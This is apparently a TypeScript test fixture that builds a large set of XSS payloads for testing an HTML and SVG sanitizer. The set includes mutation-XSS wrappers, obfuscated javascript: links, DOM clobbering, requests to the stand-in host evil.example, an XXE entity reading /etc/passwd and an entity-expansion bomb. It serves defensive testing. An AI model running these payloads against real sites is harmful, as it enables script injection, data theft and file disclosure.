/** The site that hostile content would call; nothing must reach it. */
export const EVIL = 'https://evil.example'
/** The function that hostile content would run, with its own number. */
export const RUN = 'gafferHit'

/** What would run or load, given the number of its case. */
const CORES: readonly ((n: number) => string)[] = [
  (n) => `<script>${RUN}(${n})</script>`,
  (n) => `<img src=x:${n} onerror=${RUN}(${n})>`,
  (n) => `<svg onload=${RUN}(${n})></svg>`,
  (n) => `<svg><script href="data:text/javascript,${RUN}(${n})"/></svg>`,
  (n) => `<svg><animate onbegin=${RUN}(${n}) attributeName=x dur=1s></svg>`,
  (n) => `<iframe srcdoc="<script>parent.${RUN}(${n})</script>"></iframe>`,
  (n) => `<iframe src="javascript:parent.${RUN}(${n})"></iframe>`,
  (n) => `<object data="data:text/html,<script>parent.${RUN}(${n})</script>"></object>`,
  (n) => `<input autofocus onfocus=${RUN}(${n})>`,
  (n) => `<details open ontoggle=${RUN}(${n})><summary>s</summary></details>`,
  (n) => `<video><source onerror=${RUN}(${n}) src=x:></video>`,
  (n) => `<p style="background:url(${EVIL}/style-${n})" id=x${n} class=dialog>t</p>`,
  (n) => `<style>@import "${EVIL}/import-${n}.css";*{background:url(${EVIL}/all-${n})}</style>`,
  (n) => `<link rel=stylesheet href="${EVIL}/link-${n}.css">`,
  (n) => `<img srcset="${EVIL}/set-${n}.png 1x" src="${EVIL}/src-${n}.png">`,
  (n) => `<a href="javascript:${RUN}(${n})" data-press>press</a>`,
  (n) => `<meta http-equiv=refresh content="0;url=${EVIL}/refresh-${n}"><base href="${EVIL}/base-${n}/">`,
  (n) =>
    `<form action="${EVIL}/form-${n}"><button formaction="javascript:${RUN}(${n})" data-press>b</button></form>`,
]

/** Places where one parser sees text and the next one sees markup. */
const WRAPPERS: readonly ((core: string) => string)[] = [
  (core) => core,
  (core) =>
    `<math><mtext><table><mglyph><style><!--</style>${core}--></style></mglyph></table></mtext></math>`,
  (core) => `<svg></p><style><a id="</style>${attributeSafe(core)}">`,
  (core) => `<noscript><p title="</noscript>${attributeSafe(core)}"></noscript>`,
  (core) => `<form><math><mtext></form><form><mglyph><style></math>${core}</style></form>`,
  (core) => `<template><p>${core}</p></template><p>${core}`,
  (core) => `<svg><foreignObject><p>${core}</p></foreignObject></svg>`,
  (core) => `<svg><desc><![CDATA[</desc>${core}]]></svg>`,
  (core) => `<math><annotation-xml encoding="text/html">${core}</annotation-xml></math>`,
  (core) => `<select><option><style></select>${core}</style></option></select>`,
  (core) => `<textarea></textarea ><xmp></xmp >${core}`,
  (core) => `<title>&lt;/title&gt;</title>${core}<!--><img src=x:>-->`,
  (core) => `<table><td><svg><title><table>${core}</table></title></svg></td></table>`,
  (core) => `<a href="https://x.example/?<!--">${core}<!-- --><b title="-->">`,
]

/** Cases without a wrapper: malformed attributes, disguised addresses, unusual letters, clobbering. */
const SINGLES: readonly ((n: number) => string)[] = [
  (n) => `<IMG SRC=x: OnErRoR=${RUN}(${n})>`,
  (n) => `<img/src=x:/onerror=${RUN}(${n})>`,
  (n) => `<img src="x:"onerror="${RUN}(${n})">`,
  (n) => `<img src=x:\u000conerror=${RUN}(${n})>`,
  (n) => `<img src='x:' "onerror=${RUN}(${n}) '>`,
  (n) => `<img \u00a0src=x: onerror\u000b=${RUN}(${n}) onerror=${RUN}(${n})>`,
  (n) => `<<img src=x: onerror=${RUN}(${n})>`,
  (n) => `<scr<script>ipt>${RUN}(${n})</scr</script>ipt>`,
  (n) => `<script\u0000>${RUN}(${n})</script>`,
  (n) => `<script/x>${RUN}(${n})</script\n>`,
  (n) => `\u003cscript\u003e${RUN}(${n})\u003c/script\u003e`,
  (n) => `&lt;script&gt;${RUN}(${n})&lt;/script&gt;`,
  (n) => `＜script＞${RUN}(${n})＜/script＞`,
  (n) => `<ſcript>${RUN}(${n})</ſcript><\u0130mg src=x: onerror=${RUN}(${n})>`,
  (n) => `<a href="java\nscript:${RUN}(${n})" data-press>a</a>`,
  (n) => `<a href="&#1;java&#9;script&colon;${RUN}(${n})" data-press>a</a>`,
  (n) => `<a href=" \u0001JaVaScRiPt:${RUN}(${n})" data-press>a</a>`,
  (n) => `<a href="data:text/html,<script>opener.${RUN}(${n})</script>" data-press>a</a>`,
  (n) => `<a href="vbscript:${RUN}(${n})" data-press>a</a><a href="blob:https://x/1">b</a>`,
  (n) => `<a href="//evil.example/${n}" ping="${EVIL}/ping-${n}">a</a>`,
  (n) => `<a href="https://x.example" onclick="${RUN}(${n})" target=_self data-press2>a</a>`,
  (n) => `<svg><a xlink:href="javascript:${RUN}(${n})" data-press><text y=9>a</text></a></svg>`,
  (n) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='${EVIL}/use-${n}'/></svg>#x"/></svg>`,
  (n) => `<svg><image href="${EVIL}/image-${n}"/><feImage xlink:href="${EVIL}/fe-${n}"/></svg>`,
  (n) => `<math href="javascript:${RUN}(${n})" data-press>m</math>`,
  (n) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}(${n})</x:script>`,
  (n) =>
    `<svg:svg onload=${RUN}(${n})/><svg><x:img xmlns:x="http://www.w3.org/1999/xhtml" src=x: onerror=${RUN}(${n}) /></svg>`,
  (n) => `<!--[if gte IE 4]><script>${RUN}(${n})</script><![endif]-->`,
  (n) => `<!--><img src=x: onerror=${RUN}(${n})>--!><img src=x: onerror=${RUN}(${n})>`,
  (n) => `<?xml-stylesheet href="${EVIL}/xsl-${n}"?><?><img src=x: onerror=${RUN}(${n})>`,
  (n) => `<body onload=${RUN}(${n}) background="${EVIL}/body-${n}"><html onclick=${RUN}(${n})>`,
  (n) => `<table background="${EVIL}/table-${n}"><td background="${EVIL}/td-${n}">t</td></table>`,
  (n) => `<audio src="${EVIL}/audio-${n}" autoplay></audio><video poster="${EVIL}/poster-${n}"></video>`,
  (n) => `<embed src="${EVIL}/embed-${n}"><applet code="${EVIL}/applet-${n}"></applet>`,
  (n) => `<picture><source srcset="${EVIL}/picture-${n}"><img src=x:></picture>`,
  (n) => `<input type=image src="${EVIL}/input-${n}"><isindex formaction=javascript:${RUN}(${n})>`,
  (n) =>
    `<form id=root><input name=body><input name=attributes><input name=childNodes></form><b id=gaffer-data>${n}</b>`,
  (n) => `<img name=getElementById><a id=trustedTypes></a><a id=gafferArrival href="tel:${n}">x</a>`,
  (n) => `<p lang="en" dir="ltr&quot; onclick=${RUN}(${n})" data-press>p</p>`,
  (n) => `<ol start="1&quot;><script>${RUN}(${n})</script>"><li>1</ol>`,
  (n) => `<td colspan="9 onfocus=${RUN}(${n})" rowspan=javascript:1>t</td>`,
  (n) => `<a rel="stylesheet preload" as=style href="${EVIL}/rel-${n}">a</a>`,
  (n) => `${'<b>'.repeat(600)}<img src=x: onerror=${RUN}(${n})>${'</b>'.repeat(600)}`,
  (n) => `<marquee onstart=${RUN}(${n})>m</marquee><dialog open oncancel=${RUN}(${n})>d</dialog>`,
  (n) => `<p onpointerrawupdate=${RUN}(${n}) onanimationstart=${RUN}(${n}) style="animation:rise 1s">p</p>`,
  (n) =>
    `<slot onslotchange=${RUN}(${n})><template shadowrootmode=open><img src=x: onerror=${RUN}(${n})></template></slot>`,
  (n) => `<div><template shadowrootmode=open><style>@import "${EVIL}/shadow-${n}";</style></template></div>`,
  (n) => `<plaintext>${RUN}(${n})<img src=x: onerror=${RUN}(${n})>`,
]

function attributeSafe(core: string): string {
  return core.replaceAll('"', "'")
}

/** Every hostile text, each with a number that its scripts and requests contain. */
export function hostileTexts(): readonly string[] {
  const wrapped = CORES.flatMap((core) => WRAPPERS.map((wrap) => (n: number) => wrap(core(n))))
  return [...wrapped, ...SINGLES].map((write, n) => write(n))
}

/** Closes whatever a text left open, so that the next one also starts outside. */
export const CLOSING =
  '">\'>--></style></script></title></textarea></noscript></template></option></select></xmp></iframe></math></svg></table></form></a></b>'

const svg = (inside: string, rest = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9" ${rest}>${inside}</svg>`

/** Pictures that are more than pictures; an operator must not be able to use any of them. */
export const HOSTILE_SVGS: readonly string[] = [
  svg(`<script>${RUN}(1)</script>`),
  svg(`<script href="${EVIL}/a.js"/>`),
  svg(`<script xlink:href="data:text/javascript,${RUN}(1)"/>`),
  svg('', `onload="${RUN}(1)"`),
  svg(`<rect width="9" height="9" onclick="${RUN}(1)"/>`),
  svg(`<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${RUN}(1)"/></foreignObject>`),
  svg(`<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${EVIL}/frame"/></foreignObject>`),
  svg(`<image href="${EVIL}/image.png" width="9" height="9"/>`),
  svg(`<image xlink:href="${EVIL}/image.png" width="9" height="9"/>`),
  svg(`<use href="${EVIL}/a.svg#x"/>`),
  svg(`<use xlink:href="data:image/svg+xml,%3Csvg%3E#x"/>`),
  svg(`<a href="javascript:${RUN}(1)"><rect width="9" height="9"/></a>`),
  svg(`<animate attributeName="href" values="javascript:${RUN}(1)" onbegin="${RUN}(1)"/>`),
  svg(`<set attributeName="onmouseover" to="${RUN}(1)"/>`),
  svg(`<style>@import url(${EVIL}/a.css);</style>`),
  svg(`<style>rect{fill:url(${EVIL}/a.svg#x)}</style><rect width="9" height="9"/>`),
  svg(`<rect width="9" height="9" style="background:url(${EVIL}/a)"/>`),
  svg(`<rect width="9" height="9" fill="url(${EVIL}/a.svg#x)"/>`),
  svg(`<rect width="9" height="9" fill="u&#114;l(${EVIL}/a.svg#x)"/>`),
  svg(`<rect width="9" height="9" clip-path="URL( ${EVIL}/a.svg#x )"/>`),
  svg(`<filter id="f"><feImage href="${EVIL}/a"/></filter>`),
  svg(`<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${RUN}(1)</handler>`),
  svg(`<x:script xmlns:x="http://www.w3.org/2000/svg">${RUN}(1)</x:script>`),
  `<?xml-stylesheet href="${EVIL}/a.xsl"?>${svg('')}`,
  `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`,
  `<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>${svg('<text>&b;</text>')}`,
  svg(`<text><![CDATA[<script>${RUN}(1)</script>]]></text>`),
  svg('', 'width="20000" height="20000"'),
  svg('<g>'.repeat(3_000) + '</g>'.repeat(3_000)),
  `<html><script>${RUN}(1)</script></html>`,
  `<svg onload="${RUN}(1)"><p>no picture at all</p></svg>`,
  `GIF89a/*${svg('')}*/=${RUN}(1)`,
]

/** Names written by somebody who wants more than a name. */
export const HOSTILE_NAMES: readonly string[] = [
  `<img src=x: onerror=${RUN}(1)>`,
  `<script>${RUN}(1)</script>`,
  `"><svg onload=${RUN}(1)>`,
  `'-${RUN}(1)-'`,
  `\${${RUN}(1)}{{${RUN}(1)}}`,
  `</script><script>${RUN}(1)</script>`,
  `</title><img src=${EVIL}/name>`,
  `javascript:${RUN}(1)`,
  `\u2028<!--<script>${RUN}(1)`,
  `\u202e<img src=${EVIL}/rtl>`,
  `&lt;img src=x: onerror=${RUN}(1)&gt;`,
  `{count, plural, one {x}`,
]
